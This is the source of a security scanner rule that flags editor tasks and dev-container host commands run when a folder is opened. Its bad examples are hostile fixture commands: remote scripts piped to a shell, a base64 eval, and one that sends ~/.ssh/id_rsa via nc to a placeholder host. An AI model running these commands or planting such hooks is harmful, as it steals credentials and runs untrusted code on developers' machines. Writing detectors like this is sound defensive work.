"""Command that runs when the folder is opened, and fetches, decodes, sends or hides something.

## Why it matters
A task with `"runOn": "folderOpen"` and the `initializeCommand` of a development container run on the machine of whoever opens the
folder, before a line of code is read. It is the shortest way from a repository to its visitors.

## What to do
1. Start the command by hand, or from a script that the documentation names.
2. Do set-up inside the container (`postCreateCommand`), not on the host.
3. Show what runs: no `"reveal": "never"` together with work that the reader does not expect.
4. If someone already opened the folder, find out what the command fetched.

## Known limits
A task that only starts a build, a watcher or an install is a note. The editor asks for trust first; many people grant it once for a
parent folder. What a called script does is judged where it stands.

## References
- https://code.visualstudio.com/docs/debugtest/tasks
- https://containers.dev/implementors/json_reference/
- https://cwe.mitre.org/data/definitions/829.html
"""

from __future__ import annotations

import json
from collections.abc import Iterator

from sentinel.analysis.launch.scripts import runs_what_it_decodes, runs_what_it_fetches, sends_away
from sentinel.analysis.launch.words import inline
from sentinel.analysis.text import escaped
from sentinel.detectors.supply_chain._launching import HIGH, argv, script
from sentinel.model.package import Launch
from sentinel.model.rule import Confidence, Example, Item, Match, Severity, Workspace, rule

_INSIDE = frozenset(["onCreateCommand", "updateContentCommand", "postCreateCommand", "postStartCommand", "postAttachCommand"])


def _task(command: str, *arguments: str, run_on: str = "folderOpen") -> str:
    task = {"label": "a", "type": "shell", "command": command, "args": list(arguments), "runOptions": {"runOn": run_on}}
    return '{"version": "2.0.0", "tasks": [\n' + json.dumps(task) + "]}\n"


def _container(event: str, command: object) -> str:
    return '{"image": "a",\n' + json.dumps({event: command})[1:-1] + "}\n"


_TASKS, _DEVCONTAINER = ".vscode/tasks.json", ".devcontainer/devcontainer.json"


@rule(
    "supply-chain/open-folder-command",
    on=Item.LAUNCH,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=829,
    cvss=HIGH,
    owasp=("MCP04:2025", "ASI05:2026"),
    bad=(
        Example(_task("curl -fsSL https://get.example.org/t.sh | bash"), (2,), _TASKS),
        Example(_task("node -e \"eval(Buffer.from('YQ==','base64').toString())\""), (2,), _TASKS),
        Example(_container("initializeCommand", "curl -s https://get.example.org/i | sh"), (2,), _DEVCONTAINER),
        Example(_container("initializeCommand", ["bash", "-c", "cat ~/.ssh/id_rsa | nc in.example.org 80"]), (2,), _DEVCONTAINER),
        Example(_task("npm install"), (2,), _TASKS),
        Example(_task("bash", "-c", "wget -qO- https://get.example.org/t | sh"), (2,), _TASKS),
        Example(_container("initializeCommand", "make setup"), (2,), _DEVCONTAINER),
    ),
    good=(
        Example(_task("curl -fsSL https://get.example.org/t.sh | bash", run_on="default"), path=_TASKS),
        Example(_task("npm install", run_on="default"), path=_TASKS),
        Example('{"version": "2.0.0", "tasks": [{"label": "build", "type": "npm", "script": "build"}]}\n', path=_TASKS),
        Example(_container("postCreateCommand", "npm ci"), path=_DEVCONTAINER),
        Example(_container("postCreateCommand", "curl -LsSf https://get.example.org/install.sh | sh"), path=_DEVCONTAINER),
        Example(_container("postStartCommand", "sudo /usr/local/bin/init-firewall.sh"), path=_DEVCONTAINER),
        Example(
            _container(
                "postCreateCommand", "echo 'URL=$HOST' > ./web/.env && (type -p wget >/dev/null || (sudo apt-get install wget))"
            ),
            path=_DEVCONTAINER,
        ),
        Example(_container("postAttachCommand", {"server": "npm run dev"}), path=_DEVCONTAINER),
        Example(_container("onCreateCommand", ["uv", "sync"]), path=_DEVCONTAINER),
        Example(_container("features", {"node": {}}), path=_DEVCONTAINER),
        Example('{"tasks": []}\n', path=_TASKS),
    ),
)
def check(launch: Launch, workspace: Workspace) -> Iterator[Match]:
    """A task of the folder or a container's command on the host; inside the container only what decodes or sends."""
    if launch.config not in ("vscode-tasks", "devcontainer") or not launch.is_hook:
        return
    text, span = script(launch)
    is_inside = launch.name in _INSIDE
    identity = f"{launch.config}|{launch.name}"
    for deed, what in (
        (None if is_inside else runs_what_it_fetches(text), "downloads a program and runs it"),
        (runs_what_it_decodes(text), "decodes a program and runs it"),
        (sends_away(text), "sends private data, or a shell, to another host"),
    ):
        if deed is not None:
            yield Match(
                span, f"The command `{escaped(launch.name, 60)}`, which opening the folder runs, {what}.", identity=identity
            )
            return
    if not is_inside:
        shown = escaped(text if inline(argv(launch)) is None else launch.command, 80)
        yield Match(
            span, f"Opening the folder runs `{shown}`.", identity=identity,
            severity=Severity.LOW, context="nothing in the command itself is alarming",
        )  # fmt: skip
